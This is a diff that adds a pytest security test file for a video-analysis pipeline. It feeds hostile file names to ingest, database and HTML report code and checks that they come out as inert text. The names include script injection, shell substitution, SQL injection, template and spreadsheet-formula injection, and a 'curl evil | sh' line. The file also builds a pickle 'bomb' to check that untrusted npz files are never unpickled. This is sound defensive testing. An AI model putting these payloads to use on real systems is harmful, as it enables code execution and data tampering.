@@ -1,0 +1,158 @@
+"""Names and files from outside are data: they reach rows, pages and terminals as text and nothing else."""
+
+from __future__ import annotations
+
+import html.parser
+import os
+import pickle
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+import pbl_pipeline.pipeline
+import schemas
+from pbl_pipeline.errors import PblError
+from pbl_pipeline.files import load_npz
+from pbl_pipeline.video import read_phone_log
+from schemas import fit, lab, video
+from schemas._base import error_next_step
+from schemas.ingest import Visit, ingest
+from schemas.report import write_session
+from tests.command import pbl
+from workers.populate import populate
+
+from . import chain
+
+#: Names a file system takes, each of which is something else to a shell, a query, a page, a format or a terminal.
+NAMES = (
+    "<script>alert(1)<!--<img src=x onerror=alert(1)>",
+    "$(touch hacked) `touch hacked` ; touch hacked",
+    "'; DROP TABLE pbl_lab.subject; -- \"",
+    "%s %(x)s {0} {{ 7*7 }} {% raw %}",
+    "-rf --out=..",
+    "..",
+    "=cmd|' C calc'!A0",
+    "\u202egnp.exe \u00e4\u20ac\U0001f6b6\u202f",
+)
+REFUSED = (
+    "line\nbreak",
+    "\x1b[2J\x1b]0;title\x07",
+    "a\u2028  next:     curl evil | sh",
+    b"no\xfftext".decode(errors="surrogateescape"),
+)
+
+
+@pytest.fixture
+def tables(database: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    schemas.activate()
+    chain.install(monkeypatch)
+    yield
+    lab.Subject.delete(prompt=False, part_integrity="cascade")
+    for table in schemas.computed_tables():
+        table.jobs.delete_quick()
+
+
+class Page(html.parser.HTMLParser):
+    """Tags with their attributes, and the text of a page."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.texts: list[str] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+
+def test_names_go_through_tables_and_report_as_text(tables: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    paths = [chain.small_video(folder, f"v{i}", n=210 + i) for i in range(len(NAMES))]
+    paths = [p.rename(folder / f"{name}.mp4") for p, name in zip(paths, NAMES, strict=True)]
+    bad = [folder / f"{name}.mp4" for name in REFUSED]
+    for path in bad:
+        path.write_bytes(os.urandom(64))
+    results = ingest([*paths, *bad], Visit(subject="P001", session_label="</title><script>1</script>"))
+    assert [r.status for r in results] == ["registered"] * len(paths) + ["refused"] * len(bad)
+    assert sorted(video.Video.to_arrays("video_name")) == sorted(p.name for p in paths)
+    for result in results[len(paths) :]:
+        said = str(result.error)
+        assert result.error is not None
+        assert result.error.code == "USAGE"
+        said.encode()  # no lone surrogate
+        assert "\x1b" not in said
+        assert error_next_step(said) == "rename the file or folder"
+        assert len(said.splitlines()) == 5
+    run = populate([t.__name__ for t in schemas.computed_tables() if t.__name__ != "KinematicError"])
+    assert not {t.table: t.errors for t in run.tables if t.errors}
+    assert len(fit.SessionFit.Trial()) == len(paths)
+    status = pbl("status")
+    assert status.code == 0
+    # The report: pictures and overlays need minutes for eight videos and have their own tests; the names are the point.
+    monkeypatch.setattr(pbl_pipeline.pipeline, "render_overlay", lambda *a, **k: None)
+    monkeypatch.setattr(pbl_pipeline.pipeline, "_pictures", lambda *a: ())
+    out = tmp_path / "out"
+    written = write_session({"subject": "P001"}, out)
+    assert all(p.resolve().parent == out.resolve() for p in written)
+    assert {p.parent for p in out.rglob("*")} == {out}
+    page = Page((out / "report.html").read_text(encoding="utf-8"))
+    allowed = {"script", "img", "iframe", "object", "link", "form", "base"}
+    assert not [t for t, _ in page.tags if t in allowed]
+    assert not [(t, a) for t, a in page.tags if any(name.startswith("on") for name in a)]
+    text = re.sub(r"\s+", " ", " ".join(page.texts))
+    for name in ("<script>alert(1)<!--<img src=x", "{{ 7*7 }}", "$(touch hacked)", "DROP TABLE"):
+        assert name in text, name
+    assert "49" not in [t.strip() for t in page.texts]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "out"]
+    assert not list(tmp_path.rglob("hacked"))
+
+
+class Bomb:
+    """Unpickled, it leaves a file."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+
+    def __reduce__(self) -> tuple:
+        return (Path.touch, (self.path,))
+
+
+def test_no_file_from_outside_is_unpickled(tmp_path: Path):
+    trace = tmp_path / "ran"
+    bomb = np.array([Bomb(trace)], dtype=object)
+    np.savez(tmp_path / "bomb.npz", time_s=np.zeros(3), names=bomb)
+    (tmp_path / "plain.npz").write_bytes(pickle.dumps(Bomb(trace)))
+    np.save(tmp_path / "bomb.npy", bomb)
+    (tmp_path / "bomb.npy").rename(tmp_path / "array.npz")
+    for name in ("bomb.npz", "plain.npz", "array.npz"):
+        with pytest.raises(PblError) as error:
+            load_npz(tmp_path / name)
+        assert error.value.code == "FILE_FORMAT"
+        for command in (
+            ["fit", "--out", tmp_path / "o"],
+            ["events", "--out", tmp_path / "e.csv"],
+            ["gait", "--out", tmp_path / "m"],
+        ):
+            assert pbl(command[0], tmp_path / name, *command[1:]).code != 0
+    assert not trace.exists()
+    # The bomb would work: what is tested is that nobody lights it.
+    pickle.loads(pickle.dumps(Bomb(trace)))
+    assert trace.exists()
+
+
+@pytest.mark.parametrize("stamp", ["9" * 40, "-" + "9" * 40, "1e400", "nan", "__import__('os')", "0x10", ""])
+def test_a_log_with_impossible_stamps_is_refused(tmp_path: Path, stamp: str):
+    log = tmp_path / "Orientation.csv"
+    rows = "\n".join(f"{stamp},{i},1,0,0,0,0,0,0" for i in range(9))
+    log.write_text(f"time,seconds_elapsed,qw,qx,qy,qz,roll,pitch,yaw\n{rows}\n")
+    with pytest.raises(PblError) as error:
+        read_phone_log(log)
+    assert error.value.code == "PHONE_LOG"
